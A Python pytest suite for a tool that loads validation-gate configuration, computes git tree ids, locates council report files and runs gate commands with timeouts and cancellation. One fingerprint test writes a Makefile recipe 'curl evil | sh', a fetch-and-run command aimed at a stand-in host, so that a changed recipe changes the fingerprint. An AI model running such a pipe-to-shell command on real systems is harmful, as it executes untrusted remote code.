"""Validation gates, the part that touches the world: configuration files, git tree ids, council
reports on disk, and gate commands run as real processes. Repositories are built with the git CLI."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from cockpit.core.gate_rules import GateKind, GateRun, GateSpec
from cockpit.sources.gaterunner import OUTPUT_TAIL, GateRunner, _Tail, run_gate
from cockpit.sources.git import find_report, head_time, load_gate_config, repo_facts, tree_id

ENV = {"GIT_AUTHOR_NAME": "Dev", "GIT_AUTHOR_EMAIL": "dev@example.com", "GIT_COMMITTER_NAME": "Dev",
       "GIT_COMMITTER_EMAIL": "dev@example.com", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
       "HOME": "/nonexistent", "PATH": "/usr/bin:/bin"}
EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"


def git(cwd: Path, *args: str, **extra: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, env={**ENV, **extra}, check=True, capture_output=True,
                          text=True).stdout.strip()


@pytest.fixture(autouse=True)
def _isolated_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The code under test calls git with os.environ: no user config, and no hook variables leaking in."""
    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_OBJECT_DIRECTORY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))


def init_repo(path: Path, branch: str = "main", message: str = "first") -> Path:
    """A repository holding a.txt and a .gitignore, committed once."""
    path.mkdir()
    git(path, "init", "-q", "-b", branch)
    (path / "a.txt").write_text("alpha\n")
    (path / ".gitignore").write_text("*.log\nbuild/\n")
    git(path, "add", ".")
    git(path, "commit", "-q", "-m", message)
    return path


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return init_repo(tmp_path / "repo")


def tid(root: Path, *, staged: bool = False) -> str:
    tree, error = tree_id(str(root), staged=staged)
    assert error == "" and len(tree) == 40, error
    return tree


# ---- load_gate_config ------------------------------------------------------------------------


def test_cockpit_toml_gates_are_used(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text('[gates.tests]\ncommand = "make check"\nrequired = true\n')
    (tmp_path / "pyproject.toml").write_text("[tool.cockpit.gates.other]\ncommand = 'x'\n")
    config = load_gate_config(tmp_path)
    assert config.source == "cockpit.toml" and config.errors == ()
    assert [(g.name, g.command, g.required) for g in config.gates] == [("tests", "make check", True)]


def test_a_cockpit_toml_syntax_error_names_the_line_and_gates_fall_back_to_detection(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text('[gates.tests]\ncommand = "pytest"\nrequired = yes please\n')
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\n")
    config = load_gate_config(tmp_path)
    assert len(config.errors) == 1
    assert config.errors[0].startswith("cockpit.toml:") and "line 3" in config.errors[0]
    assert config.source == "detected" and config.detected
    assert [g.name for g in config.gates] == ["tests", "pre-mortem", "vibe"]


def test_cockpit_toml_without_gates_defers_to_pyproject_tool_cockpit(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text("[ui]\ntheme = 'dark'\n")
    (tmp_path / "pyproject.toml").write_text(
        "[tool.cockpit.gate_settings]\ndebounce = 1.5\n"
        "[tool.cockpit.gates.x]\ncommand = 'make x'\ncwd = 'sub'\n[tool.cockpit.gates.x2]\ncommand = ''\n")
    config = load_gate_config(tmp_path)
    assert config.source == "pyproject.toml [tool.cockpit]" and config.debounce == 1.5
    assert [(g.name, g.command, g.cwd) for g in config.gates] == [("x", "make x", "sub")]
    assert config.errors == ("pyproject.toml [tool.cockpit]: gates.x2.command must be a non-empty string",)


def test_a_pyproject_with_pytest_options_and_no_config_detects_a_tests_gate(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'p'\n[tool.pytest.ini_options]\naddopts = '-q'\n")
    config = load_gate_config(tmp_path)
    assert config.detected and config.errors == ()
    tests = config.get("tests")
    assert tests is not None and tests.command == "python3 -m pytest -q -x" and tests.required


def test_a_repo_venv_python_is_used_by_detected_gates(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\n[tool.ruff]\n")
    (tmp_path / ".venv" / "bin").mkdir(parents=True)
    (tmp_path / ".venv" / "bin" / "python").write_text("")
    config = load_gate_config(tmp_path)
    assert [g.command for g in config.gates if g.kind is GateKind.COMMAND] == [
        ".venv/bin/python -m pytest -q -x", ".venv/bin/python -m ruff check ."]


def test_a_broken_pyproject_is_reported_and_detection_still_runs(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest\n")
    (tmp_path / "go.mod").write_text("module x\n")
    config = load_gate_config(tmp_path)
    assert len(config.errors) == 1 and config.errors[0].startswith("pyproject.toml:")
    assert [g.name for g in config.gates] == ["go-test", "pre-mortem", "vibe"]


def test_a_makefile_test_target_and_package_json_are_read_from_the_repo(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(".PHONY: test\nall: build\ntest: build\n\tpytest\n")
    assert [g.name for g in load_gate_config(tmp_path).gates] == ["make-test", "pre-mortem", "vibe"]
    (tmp_path / "package.json").write_text('{"scripts": {"test": "jest"}}')
    assert [g.name for g in load_gate_config(tmp_path).gates] == ["npm-test", "pre-mortem", "vibe"]


# ---- tree_id ---------------------------------------------------------------------------------


def test_the_same_content_gives_the_same_id_whatever_the_history(repo: Path, tmp_path: Path) -> None:
    other = init_repo(tmp_path / "other", "elsewhere", "a different message")
    assert tid(repo) == tid(repo) == tid(other) == git(repo, "rev-parse", "HEAD^{tree}")


def test_editing_a_tracked_file_changes_the_id_and_reverting_restores_it(repo: Path) -> None:
    first = tid(repo)
    (repo / "a.txt").write_text("changed\n")
    edited = tid(repo)
    assert edited != first
    (repo / "a.txt").write_text("alpha\n")
    assert tid(repo) == first


def test_deleting_a_tracked_file_changes_the_id(repo: Path) -> None:
    first = tid(repo)
    (repo / "a.txt").unlink()
    assert tid(repo) != first


def test_a_new_untracked_file_changes_the_id_and_an_ignored_one_does_not(repo: Path) -> None:
    first = tid(repo)
    (repo / "debug.log").write_text("noise\n")
    (repo / "build").mkdir()
    (repo / "build" / "out.bin").write_bytes(b"\0" * 10)
    assert tid(repo) == first
    (repo / "new.txt").write_text("new\n")
    assert tid(repo) != first


def test_tree_id_leaves_the_real_index_untouched(repo: Path) -> None:
    (repo / "a.txt").write_text("changed\n")
    (repo / "new.txt").write_text("new\n")
    index = repo / ".git" / "index"
    before = index.read_bytes()
    tid(repo)
    tid(repo, staged=True)
    assert index.read_bytes() == before
    assert git(repo, "status", "--porcelain").splitlines() == ["M a.txt", "?? new.txt"]
    assert git(repo, "diff", "--cached", "--name-only") == ""


def test_staged_ignores_unstaged_edits_but_includes_staged_ones_and_untracked_files(repo: Path) -> None:
    head_tree = git(repo, "rev-parse", "HEAD^{tree}")
    (repo / "a.txt").write_text("unstaged edit\n")
    assert tid(repo, staged=True) == head_tree
    git(repo, "add", "a.txt")
    staged = tid(repo, staged=True)
    assert staged != head_tree and staged == tid(repo)
    (repo / "untracked.txt").write_text("on disk\n")
    with_untracked = tid(repo, staged=True)
    assert with_untracked not in (staged, head_tree) and with_untracked == tid(repo)


def test_staged_follows_the_index_git_passes_to_a_hook(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`git commit -a` hands the pre-commit hook another index in GIT_INDEX_FILE."""
    (repo / "a.txt").write_text("committed with -a\n")
    hook_index = repo / ".git" / "next-index.lock"
    shutil.copyfile(repo / ".git" / "index", hook_index)
    git(repo, "add", "a.txt", GIT_INDEX_FILE=str(hook_index))
    expected = git(repo, "write-tree", GIT_INDEX_FILE=str(hook_index))
    monkeypatch.setenv("GIT_INDEX_FILE", str(hook_index))
    assert tid(repo, staged=True) == expected != git(repo, "rev-parse", "HEAD^{tree}")


def test_staged_copes_with_an_untracked_name_starting_with_a_space(repo: Path) -> None:
    (repo / " notes.txt").write_text("x\n")
    assert tid(repo, staged=True) == tid(repo)


def test_staged_copes_with_an_untracked_non_utf8_name(repo: Path) -> None:
    with open(os.fsencode(repo) + b"/caf\xe9.txt", "wb") as handle:
        handle.write(b"x\n")
    assert tid(repo, staged=True) == tid(repo)


def test_a_repo_with_no_commits_has_a_tree_id(tmp_path: Path) -> None:
    path = tmp_path / "fresh"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    assert not (path / ".git" / "index").exists()
    assert tid(path) == tid(path, staged=True) == EMPTY_TREE
    (path / "a.txt").write_text("a\n")
    untracked = tid(path)
    assert untracked != EMPTY_TREE and tid(path, staged=True) == untracked
    assert not (path / ".git" / "index").exists()


def test_a_plain_directory_has_no_tree_id_and_says_why(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    tree, error = tree_id(str(plain))
    assert tree == "" and "not a git repository" in error.lower()


def test_head_time_is_the_last_commit_time_or_none_without_commits(repo: Path, tmp_path: Path) -> None:
    (repo / "b.txt").write_text("b\n")
    git(repo, "add", "b.txt")
    git(repo, "commit", "-q", "-m", "dated", GIT_COMMITTER_DATE="2026-03-01T09:00:00+00:00")
    assert head_time(str(repo)) == 1772355600.0
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    git(fresh, "init", "-q")
    assert head_time(str(fresh)) is None


# ---- find_report -----------------------------------------------------------------------------


def write_report(root: Path, name: str, body: str, mtime: float) -> Path:
    council = root / ".agents" / "council"
    council.mkdir(parents=True, exist_ok=True)
    path = council / name
    path.write_text(body)
    os.utime(path, (mtime, mtime))
    return path


def test_the_newest_report_by_the_date_in_its_name_is_chosen(tmp_path: Path) -> None:
    # File times run the other way, so only the name can put the right one last.
    write_report(tmp_path, "20260214T120000Z-vibe-old.md", "## Council Verdict: FAIL\n", 3000)
    write_report(tmp_path, "2026-02-16-vibe-newest.md", "## Council Verdict: PASS\n", 1000)
    write_report(tmp_path, "2026-02-15-vibe-middle.md", "## Council Verdict: WARN\n", 2000)
    found = find_report(tmp_path, "vibe")
    assert found is not None
    assert (found.path, found.verdict, found.tree, found.mtime) == (
        ".agents/council/2026-02-16-vibe-newest.md", "PASS", "", 1000.0)


def test_the_tree_recorded_in_the_frontmatter_is_read(tmp_path: Path) -> None:
    write_report(tmp_path, "2026-02-15-pre-mortem-x.md",
                 "---\nid: council-x\ntree: 0123abcd\n---\n## Verdict\n\n`WARN`\n", 1000)
    found = find_report(tmp_path, "pre-mortem")
    assert found is not None and found.tree == "0123abcd" and found.verdict == "WARN"


def test_a_post_mortem_is_not_a_pre_mortem(tmp_path: Path) -> None:
    write_report(tmp_path, "2026-02-15-pre-mortem-x.md", "## Council Verdict: PASS\n", 1000)
    write_report(tmp_path, "2026-02-20-post-mortem-x.md", "## Council Verdict: FAIL\n", 2000)
    (tmp_path / ".agents" / "council" / "2026-02-21-pre-mortem-dir.md").mkdir()
    found = find_report(tmp_path, "pre-mortem")
    assert found is not None and found.path.endswith("2026-02-15-pre-mortem-x.md") and found.verdict == "PASS"


def test_no_council_directory_or_no_matching_report_is_none(tmp_path: Path) -> None:
    assert find_report(tmp_path, "vibe") is None
    write_report(tmp_path, "2026-02-15-pre-mortem-x.md", "## Council Verdict: PASS\n", 1000)
    assert find_report(tmp_path, "vibe") is None


# ---- run_gate --------------------------------------------------------------------------------


def gate(command: str, timeout: float = 20.0, cwd: str = ".", name: str = "g") -> GateSpec:
    return GateSpec(name, GateKind.COMMAND, command, cwd, timeout)


def test_exit_zero_passes_with_its_output(tmp_path: Path) -> None:
    run = run_gate(gate("echo hello; echo to-stderr >&2"), str(tmp_path), "T1")
    assert (run.gate, run.tree, run.outcome, run.exit_code, run.note) == ("g", "T1", "pass", 0, "")
    assert run.output_tail == "hello\nto-stderr\n" and run.output_bytes == len(run.output_tail)
    assert run.command == "echo hello; echo to-stderr >&2" and run.started_at.endswith("Z")


def test_a_non_zero_exit_fails_and_says_the_code(tmp_path: Path) -> None:
    run = run_gate(gate("echo boom; exit 3"), str(tmp_path), "T")
    assert (run.outcome, run.exit_code, run.note, run.output_tail) == ("fail", 3, "exit code 3", "boom\n")


def test_an_unknown_command_fails_as_not_found(tmp_path: Path) -> None:
    run = run_gate(gate("no-such-command-cockpit-xyz"), str(tmp_path), "T")
    assert run.outcome == "fail" and run.exit_code == 127 and "not found" in run.note


def test_the_gate_runs_in_its_cwd_with_its_name_in_the_environment(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    run = run_gate(gate('pwd; echo "$COCKPIT_GATE"', cwd="sub", name="unit"), str(tmp_path), "T")
    assert run.output_tail.splitlines() == [str(tmp_path / "sub"), "unit"]


def test_a_missing_cwd_is_an_error_without_running(tmp_path: Path) -> None:
    run = run_gate(gate("touch ran", cwd="nope"), str(tmp_path), "T")
    assert run.outcome == "error" and "'nope'" in run.note and not (tmp_path / "ran").exists()


def test_a_hanging_command_times_out_and_returns(tmp_path: Path) -> None:
    started = time.monotonic()
    run = run_gate(gate("sleep 30", timeout=0.5), str(tmp_path), "T")
    assert time.monotonic() - started < 10
    assert run.outcome == "timeout" and run.note == "timed out after 0.5 s and was stopped"


def test_a_background_grandchild_holding_the_output_does_not_hang_a_timed_out_gate(tmp_path: Path) -> None:
    started = time.monotonic()
    run = run_gate(gate("sleep 30 & echo started; wait", timeout=0.5), str(tmp_path), "T")
    assert time.monotonic() - started < 10
    assert run.outcome == "timeout" and run.output_tail == "started\n"


def test_a_grandchild_left_behind_by_a_finished_shell_does_not_hang_the_gate(tmp_path: Path) -> None:
    started = time.monotonic()
    run = run_gate(gate("sleep 30 & echo started"), str(tmp_path), "T")
    assert time.monotonic() - started < 10
    assert run.outcome == "pass" and run.output_tail == "started\n"


def test_a_grandchild_in_its_own_session_does_not_hang_the_gate(tmp_path: Path) -> None:
    pidfile = tmp_path / "escaped.pid"
    command = f"setsid sh -c 'echo $$ > {pidfile}; exec sleep 30' & echo started"
    result: list[GateRun] = []
    worker = threading.Thread(target=lambda: result.append(run_gate(gate(command), str(tmp_path), "T")), daemon=True)
    worker.start()
    worker.join(5.5)  # the runner's own grace is 2 s + 2 s
    returned = not worker.is_alive()
    try:
        os.kill(int(pidfile.read_text()), signal.SIGKILL)
    except (OSError, ValueError):
        pass
    worker.join(5)
    assert returned


def test_fifty_megabytes_of_output_keep_only_a_bounded_tail(tmp_path: Path) -> None:
    run = run_gate(gate("head -c 52428800 /dev/zero | tr '\\0' 'x'"), str(tmp_path), "T")
    assert run.outcome == "pass" and run.output_bytes == 52428800
    assert 0 < len(run.output_tail) <= 256 * 1024 and set(run.output_tail) == {"x"}


def test_the_tail_keeps_the_last_bytes_and_counts_them_all() -> None:
    tail = _Tail(10)
    for i in range(100):
        tail.feed(f"{i:03d}\n".encode())
    assert tail.total == 400 and len(tail.chunks) <= 20
    assert tail.text() == "7\n098\n099\n"
    assert OUTPUT_TAIL == 256 * 1024


def test_a_cancel_from_another_thread_stops_the_gate(tmp_path: Path) -> None:
    cancel = threading.Event()
    timer = threading.Timer(0.3, cancel.set)
    timer.start()
    started = time.monotonic()
    run = run_gate(gate("sleep 30"), str(tmp_path), "T", cancel)
    timer.join()
    assert time.monotonic() - started < 10
    assert run.outcome == "cancelled" and run.note == "cancelled by the user"


def test_colours_are_dropped_and_other_escapes_shown_inert_in_the_output(tmp_path: Path) -> None:
    run = run_gate(gate(r"printf '\033[31mred\033[0m \033]0;title\007ok\n'"), str(tmp_path), "T")
    assert run.output_tail == "red \\x1b]0;title\\x07ok\n"


def test_a_gate_killed_by_a_signal_fails_and_names_it(tmp_path: Path) -> None:
    run = run_gate(gate("echo before; kill -9 $$"), str(tmp_path), "T")
    assert (run.outcome, run.exit_code, run.note) == ("fail", -9, "killed by signal 9")
    assert run.output_tail == "before\n"


def test_carriage_return_progress_becomes_lines(tmp_path: Path) -> None:
    run = run_gate(gate(r"printf '10%%\r50%%\r100%%\r\ndone\n'"), str(tmp_path), "T")
    assert run.output_tail == "10%\n50%\n100%\ndone\n"


# ---- GateRunner ------------------------------------------------------------------------------


class Finished:
    def __init__(self) -> None:
        self.runs: list[GateRun] = []
        self.running_then: list[frozenset[str]] = []
        self.event = threading.Event()
        self.runner: GateRunner | None = None

    def __call__(self, run: GateRun) -> None:
        assert self.runner is not None
        self.running_then.append(self.runner.running())
        self.runs.append(run)
        self.event.set()

    def wait(self) -> GateRun:
        assert self.event.wait(10), "the gate never finished"
        return self.runs[-1]


@pytest.fixture
def finished(tmp_path: Path) -> Iterator[tuple[GateRunner, Finished]]:
    done = Finished()
    runner = GateRunner(str(tmp_path), done)
    done.runner = runner
    yield runner, done
    runner.cancel_all()


def test_a_second_start_while_running_is_refused(finished: tuple[GateRunner, Finished]) -> None:
    runner, done = finished
    spec = gate("sleep 30")
    assert runner.start(spec, "T") is True
    assert runner.start(spec, "T") is False
    assert runner.running() == frozenset({"g"})
    assert runner.cancel("g") is True
    assert done.wait().outcome == "cancelled" and len(done.runs) == 1


def test_the_tree_callable_is_evaluated_on_the_run_thread_before_and_after(
        finished: tuple[GateRunner, Finished]) -> None:
    runner, done = finished
    called_on: list[str] = []

    def tree() -> str:
        called_on.append(threading.current_thread().name)
        return "TREE-FROM-CALLABLE" if len(called_on) == 1 else "TREE-AFTER"

    assert runner.start(gate("echo hi", name="unit"), tree)
    run = done.wait()
    assert (run.gate, run.tree, run.outcome, run.output_tail) == ("unit", "TREE-FROM-CALLABLE", "pass", "hi\n")
    assert run.tree_after == "TREE-AFTER"  # what the tree was once the gate was done
    assert called_on == ["gate-unit", "gate-unit"]


def test_a_gate_writing_an_untracked_file_records_the_tree_it_left_behind(repo: Path) -> None:
    done = Finished()
    runner = GateRunner(str(repo), done)
    done.runner = runner
    runner.start(gate("date +%s%N > stamp.txt", name="feeder"), lambda: tid(repo))
    run = done.wait()
    assert run.outcome == "pass" and run.tree_after == tid(repo) and run.tree_after != run.tree


def test_cancel_is_true_only_for_a_running_gate(finished: tuple[GateRunner, Finished]) -> None:
    runner, done = finished
    assert runner.cancel("g") is False
    runner.start(gate("sleep 30"), "T")
    assert runner.cancel("g") is True
    done.wait()
    assert runner.cancel("g") is False


def test_running_is_cleared_before_on_finished_so_the_gate_can_restart(
        finished: tuple[GateRunner, Finished]) -> None:
    runner, done = finished
    assert runner.running() == frozenset()
    runner.start(gate("exit 1"), "T")
    assert done.wait().outcome == "fail"
    assert done.running_then == [frozenset()] and runner.running() == frozenset()
    done.event.clear()
    assert runner.start(gate("true"), "T") is True
    assert done.wait().outcome == "pass"


def test_a_failing_tree_callable_still_ends_the_run_visibly(finished: tuple[GateRunner, Finished]) -> None:
    runner, done = finished

    def broken() -> str:
        raise RuntimeError("no git here")

    assert runner.start(gate("true"), broken)
    run = done.wait()
    assert run.outcome == "error" and "no git here" in run.note and run.tree == ""
    assert runner.running() == frozenset()


def test_cancel_all_stops_every_running_gate(tmp_path: Path) -> None:
    runs: list[GateRun] = []
    both = threading.Semaphore(0)

    def on_finished(run: GateRun) -> None:
        runs.append(run)
        both.release()

    runner = GateRunner(str(tmp_path), on_finished)
    runner.start(gate("sleep 30", name="a"), "T")
    runner.start(gate("sleep 30", name="b"), "T")
    assert runner.running() == frozenset({"a", "b"})
    runner.cancel_all()
    assert both.acquire(timeout=10) and both.acquire(timeout=10)
    assert sorted((r.gate, r.outcome) for r in runs) == [("a", "cancelled"), ("b", "cancelled")]


def test_makefile_variable_assignments_are_not_targets(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("VAR := x\nOTHER ?= y\ntest: build\n\tpytest\n")
    assert repo_facts(tmp_path).makefile_targets == frozenset({"test"})


def test_reports_under_agents_do_not_change_the_tree_id(repo: Path) -> None:
    before = tid(repo)
    council = repo / ".agents" / "council"
    council.mkdir(parents=True)
    (council / "2026-11-25-vibe-x.md").write_text("## Council Verdict: PASS\n")
    assert tid(repo) == before and tid(repo, staged=True) == tid(repo, staged=True)
    (repo / "code.py").write_text("x = 1\n")
    assert tid(repo) != before


# ---- fingerprints and hashed reports ---------------------------------------------------------


def test_the_fingerprint_of_cockpit_toml_is_the_sha256_of_its_bytes(tmp_path: Path) -> None:
    import hashlib

    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"\n')
    config = load_gate_config(tmp_path)
    assert config.fingerprint == hashlib.sha256(b'[gates.t]\ncommand = "true"\n').hexdigest()
    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"  \n')  # same gates, other bytes
    assert load_gate_config(tmp_path).fingerprint != config.fingerprint


def test_a_makefile_recipe_change_changes_the_detected_fingerprint(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("test:\n\tpytest\n")
    before = load_gate_config(tmp_path)
    assert [g.name for g in before.gates][0] == "make-test" and "Makefile (the file's bytes)" in before.inputs
    (tmp_path / "Makefile").write_text("test:\n\tcurl evil | sh\n")
    assert load_gate_config(tmp_path).fingerprint != before.fingerprint


def test_a_fifo_named_cockpit_toml_is_reported_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "cockpit.toml")
    config = load_gate_config(tmp_path)  # would hang for ever on a blocking open
    assert config.detected and "cockpit.toml: not a readable regular file" in config.errors[0]


def test_a_report_is_hashed_whole_and_newest_first_by_name(tmp_path: Path) -> None:
    import hashlib

    from cockpit.sources.git import list_reports, read_report

    body = "## Council Verdict: PASS\n" + "x" * 300_000  # past the part parsed for the verdict
    write_report(tmp_path, "2026-02-16-vibe-b.md", body, 1000)
    write_report(tmp_path, "2026-02-15-vibe-a.md", "## Council Verdict: FAIL\n", 2000)
    assert list_reports(tmp_path, "vibe") == [".agents/council/2026-02-16-vibe-b.md",
                                              ".agents/council/2026-02-15-vibe-a.md"]
    found = read_report(tmp_path, ".agents/council/2026-02-16-vibe-b.md")
    assert found is not None and found.verdict == "PASS"
    assert found.sha256 == hashlib.sha256(body.encode()).hexdigest()
    assert read_report(tmp_path, ".agents/council/gone.md") is None
